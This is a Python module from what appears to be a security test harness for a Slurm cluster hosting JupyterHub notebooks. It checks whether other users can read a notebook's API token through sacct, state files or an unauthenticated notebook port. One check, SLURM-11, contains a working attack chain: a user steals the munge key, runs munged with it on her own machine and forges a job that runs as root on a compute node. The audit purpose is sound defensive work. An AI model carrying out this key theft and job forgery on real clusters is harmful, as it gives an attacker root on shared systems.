"""What Slurm's own roles, files and daemons hold of a notebook job (SLURM-09 ... SLURM-13).

Used by ``runbooks/slurm/accounting.md``. Every function takes a
:class:`~jsv.environments.Situation` with ``.pool`` (a
:class:`~jsv.environments.slurm.SlurmCluster` with accounting), ``.token``
(alice's notebook token, registered as a secret) and ``.job`` (her notebook's
job id). Token values never reach a transcript: each check compares on the
node, with the token handed to the shell in an environment variable, and
prints only whether it matched.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any

from jsv.claims import Observation
from jsv.environments.machine import CommandResult, Machine
from jsv.polling import poll_until

ROLES = {
    "bob": "a plain user (same account as alice)",
    "coord": "coordinator of alice's account",
    "oper": "AdminLevel=Operator",
    "sadmin": "AdminLevel=Administrator",
    "root": "root on the login node",
}
"""The Slurm roles SLURM-09 asks, in the order of the page's table."""

STATE_DIR = "/var/spool/slurmctld"
"""``StateSaveLocation`` of ``containers/slurm/etc/slurm/slurm.conf``."""


@dataclass(frozen=True)
class EnvVarsRead:
    """What one user's ``sacct --env-vars`` of alice's job showed."""

    user: str
    exit_code: int
    variables: int
    token_variable: bool
    token_matches: bool

    @property
    def shown(self) -> str:
        """A short summary for the page's table."""
        if self.exit_code != 0:
            return f"refused (exit {self.exit_code})"
        if not self.variables:
            return "no environment"
        token = "alice's token" if self.token_matches else "no token"
        return f"{self.variables} variables, {token}"


def parse_env_check(user: str, result: CommandResult) -> EnvVarsRead:
    """The counts :func:`env_vars_check` prints (``variables=N token-variable=N token-matches=N``)."""
    fields = dict(part.split("=", 1) for part in result.stdout.split() if "=" in part)

    def number(key: str) -> int:
        value = fields.get(key, "0")
        return int(value) if value.isdigit() else 0

    return EnvVarsRead(
        user=user,
        exit_code=number("exit"),
        variables=number("variables"),
        token_variable=number("token-variable") > 0,
        token_matches=number("token-matches") > 0,
    )


def env_vars_check(job: str) -> str:
    """Shell: ``sacct --env-vars`` of ``job`` into a private file; print counts, never values."""
    return (
        "umask 077; f=$(mktemp); "
        f'sacct -j {job} --env-vars > "$f" 2>/tmp/sacct-err-$$; rc=$?; '
        'echo "exit=$rc variables=$(grep -c \'^[A-Za-z_][A-Za-z0-9_]*=\' "$f")" '
        '"token-variable=$(grep -c \'^JUPYTERHUB_API_TOKEN=\' "$f")" '
        '"token-matches=$(grep -cxF "JUPYTERHUB_API_TOKEN=$T" "$f")"; '
        'head -c 300 /tmp/sacct-err-$$; rm -f "$f" /tmp/sacct-err-$$'
    )


def roles_read_job_environment(target: Any) -> Observation:
    """SLURM-09: each role of :data:`ROLES` runs ``sacct --env-vars`` on alice's notebook job."""
    hub = target.pool.submit
    reads, lines = {}, []
    for user in ROLES:
        ran = hub.run(env_vars_check(target.job), user=user, environment={"T": target.token})
        reads[user] = parse_env_check(user, ran)
        lines.append(f"# as {user} ({ROLES[user]})\n{ran.transcript}")
    target.reads = reads  # the page's table
    value = {user: read.token_matches for user, read in reads.items()}
    return Observation({"alice's token in sacct --env-vars, as": value}, "\n".join(lines))


def state_files_check(job: str) -> str:
    """Shell on ctl: the job's state directory (modes, owners) and which files hold the token."""
    return (
        f"ls -ld {STATE_DIR} && "
        f"dir=$(find {STATE_DIR} -maxdepth 2 -type d -name 'job.{job}') && "
        'ls -la "$dir"; '
        f'echo "files holding alice\'s token: $(grep -rlF -e "$T" {STATE_DIR} | wc -l)"'
    )


def token_in_state_files(target: Any) -> Observation:
    """SLURM-10: does slurmctld's StateSaveLocation hold alice's token, and who may read the files?"""
    ctl: Machine = target.pool.ctl
    ran = ctl.run(state_files_check(target.job), environment={"T": target.token})
    holding = ran.stdout.rsplit("files holding alice's token:", 1)[-1].strip()
    environment = next(
        (
            line.split()[0] + " " + line.split()[2]
            for line in ran.stdout.splitlines()
            if line.endswith(" environment")
        ),
        "",
    )
    found = ctl.run(f"find {STATE_DIR} -path '*/job.{target.job}/environment'").stdout.strip()
    read = ctl.run(f"cat {found or STATE_DIR + '/environment'} >/dev/null", user="mallory")
    return Observation(
        {
            "files under StateSaveLocation holding alice's token": int(holding)
            if holding.isdigit()
            else None,
            "environment file": environment,
            "mallory on ctl reads it": read.exit_code == 0,
        },
        "\n".join([ran.transcript, read.transcript]),
    )


KEY = "/etc/munge/munge.key"
MUNGED_CHECK = (
    'd=$(mktemp -d) && chown munge:munge "$d" && chmod 0755 "$d" && '
    f'install -o munge -g munge -m 0644 {KEY} "$d/key" && '
    'runuser -u munge -- timeout 5 /usr/sbin/munged --foreground --key-file="$d/key" '
    '--socket="$d/sock" --pid-file="$d/pid" --seed-file="$d/seed" > "$d/out" 2>&1; '
    'echo "munged exit=$?"; grep -v Info: "$d/out"; rm -rf "$d"'
)
"""Shell as root: a second munged, started on a copy of the node's key made readable by everyone."""


def _forge_from(outsider: Machine, key_b64: str, node: str) -> tuple[str | None, str]:
    """Root on ``outsider`` runs munged with ``key_b64`` and submits ``id`` to ``node`` as root."""
    outsider.put_file("/tmp/stolen-key.b64", key_b64, 0o600)
    ran = outsider.run(
        f"base64 -d /tmp/stolen-key.b64 > {KEY} && rm /tmp/stolen-key.b64 && chown munge:munge {KEY} "
        f"&& chmod 0400 {KEY} && install -d -o munge -g munge -m 0755 /run/munge "
        "&& runuser -u munge -- /usr/sbin/munged && id -un && "
        f"sbatch --parsable -w {node} -t 2 --mem=64M -o /tmp/forged-%j.out --wrap 'id' 2>&1",
        timeout=60,
    )
    job = ran.stdout.strip().splitlines()[-1] if ran.exit_code == 0 else ""
    return (job if job.isdigit() else None), ran.transcript


def munge_key_access(target: Any) -> Observation:
    """SLURM-11: the key's mode and owner on every node, what munged does with a key others can read,
    whether mallory (a login-node user) reads the key, and whether a copy of it, used as root on a
    machine of hers (``target.outsider``), runs a job as root on a compute node."""
    cluster = target.pool
    lines, modes = [], {}
    for node in cluster.nodes():
        ran = node.run(f"stat -c '%A %a %U:%G %n' /etc/munge {KEY}")
        modes[node.alias] = tuple(" ".join(line.split()[1:3]) for line in ran.stdout.splitlines())
        lines.append(f"# {node.alias}\n{ran.transcript}")
    check = cluster.ctl.run(MUNGED_CHECK)
    lines.append(f"# ctl: munged on a copy of the key with mode 0644\n{check.transcript}")
    read = cluster.submit.run(
        f"umask 077; cat {KEY} > /tmp/mallory-key && wc -c < /tmp/mallory-key", user="mallory"
    )
    lines.append(f"# login, as mallory\n{read.transcript}")
    forged: str | None = None
    if read.exit_code == 0:
        key_b64 = cluster.submit.run("base64 -w0 /tmp/mallory-key", user="mallory").stdout.strip()
        node = cluster.node1
        job, shown = _forge_from(target.outsider, key_b64, node.alias)
        lines.append(f"# outsider (mallory is root here), with her copy of the key\n{shown}")
        if job:
            out = node.run_when(f"test -s /tmp/forged-{job}.out", f"cat /tmp/forged-{job}.out", wait=60)
            queued = cluster.squeue("-j", job, "-o", "%i %u %T %r %N")
            lines.append(f"{queued.transcript}\n# {node.alias}\n{out.transcript}")
            forged = out.stdout.strip() or None
    cluster.submit.run("rm -f /tmp/mallory-key")
    refused = "Keyfile is insecure" in check.stdout and "munged exit=1" in check.stdout
    return Observation(
        {
            "/etc/munge and its key (mode owner:group)": sorted(
                {" and ".join(pair) for pair in modes.values()}
            ),
            "munged refuses a key others can read": refused,
            "mallory reads the key": read.exit_code == 0,
            "job submitted with her copy ran as": forged,
        },
        "\n".join(lines),
    )


STARTED = re.compile(r"Notebook server job (\d+) started at (\S+):(\d+)")
"""batchspawner's log line when a job's notebook has reported its port (batchspawner.py:454-458)."""


def _listener(cluster: Any, node: Machine) -> tuple[str, str]:
    """(address, port) alice's notebook listens on: the port from the hub's log, the address from ``ss``."""
    started = STARTED.findall(cluster.submit.logs_text())
    port = started[-1][2] if started else ""
    ran = node.run(f"ss -Hltn 'sport = :{port}'") if port else None
    fields = ran.stdout.split() if ran else []
    address = fields[3].rpartition(":")[0] if len(fields) > 3 else ""
    return address, port


def anonymous_requests(node: Machine, host: str, port: str) -> tuple[dict[str, Any], str]:
    """mallory, on ``node``, asks alice's notebook at ``host:port`` without any token."""
    paths = ["/user/alice/api/status", "/user/alice/api/contents", "/user/alice/api/kernels"]
    ran = node.run(
        "; ".join(
            f"curl -s -o /dev/null -m 8 -w '{path} -> %{{http_code}} %{{redirect_url}}\\n' "
            f"http://{host}:{port}{path} || echo '{path} -> no answer (curl exit '$?')'"
            for path in paths
        ),
        user="mallory",
        timeout=60,
    )
    answers: dict[str, Any] = {}
    for line in ran.stdout.splitlines():
        path, _, answer = line.partition(" -> ")
        code, _, location = answer.partition(" ")
        if code.isdigit():
            answers[f"GET {path}"] = int(code) if not location else f"{code} to {location.split('?')[0]}"
        else:
            answers[f"GET {path}"] = "no answer"
    return answers, ran.transcript


def _through_hub(target: Any) -> int:
    """GET /user/alice/api/status through the hub's proxy with alice's token (the hub still reaches her)."""
    hub = target.pool.submit
    ran = hub.run(
        "curl -s -o /dev/null -w '%{http_code}' -H \"Authorization: token $T\" "
        + hub.local_url("/user/alice/api/status"),
        environment={"T": target.token},
    )
    return int(ran.stdout) if ran.stdout.isdigit() else 0


def other_node_reaches_notebook(target: Any) -> Observation:
    """SLURM-12: mallory, on the compute node that does not run alice's notebook, connects to its port."""
    cluster = target.pool
    node = cluster.alices_node()
    other = cluster.node2 if node is cluster.node1 else cluster.node1
    address, port = _listener(cluster, node)
    answers, shown = anonymous_requests(other, node.alias, port)
    value: dict[str, Any] = {"alice's notebook listens on": f"{address} (port {'random' if port else '?'})"}
    value.update({f"{key} from mallory on the other node": answer for key, answer in answers.items()})
    value["GET /user/alice/api/status through the hub with alice's token"] = _through_hub(target)
    return Observation(
        value, f"# alice's notebook on {node.alias}: {address}:{port}\n# on {other.alias}\n{shown}"
    )


def mallory_beside_alice(target: Any, wait: float = 30) -> Observation:
    """SLURM-13: mallory submits a job to alice's node; if it runs, she asks alice's notebook from there."""
    cluster = target.pool
    node = cluster.alices_node()
    submitted = cluster.submit.run(
        f"cd /tmp && sbatch --parsable -w {node.alias} -t 5 --mem=64M --wrap 'sleep 300'", user="mallory"
    )
    job = submitted.stdout.strip().splitlines()[-1] if submitted.exit_code == 0 else ""
    state = poll_until(
        lambda: cluster.squeue("-h", "-j", job, "-o", "%T %r").stdout.strip(),
        lambda text: text.startswith("RUNNING"),
        timeout=wait,
        interval=2,
    ).value
    lines = [submitted.transcript, cluster.squeue("-j", job, "-o", "%i %u %T %r %N").transcript]
    answer = None
    if state.startswith("RUNNING"):
        _, port = _listener(cluster, node)
        answers, shown = anonymous_requests(node, node.alias, port)
        answer = answers.get("GET /user/alice/api/status")
        lines.append(f"# on {node.alias}, as mallory (her job runs here)\n{shown}")
    lines.append(cluster.submit.run(f"scancel {job}", user="mallory").transcript)
    return Observation(
        {
            "mallory's job on alice's node": state.split()[0] if state else None,
            "GET /user/alice/api/status from mallory on alice's node": answer,
        },
        "\n".join(lines),
    )
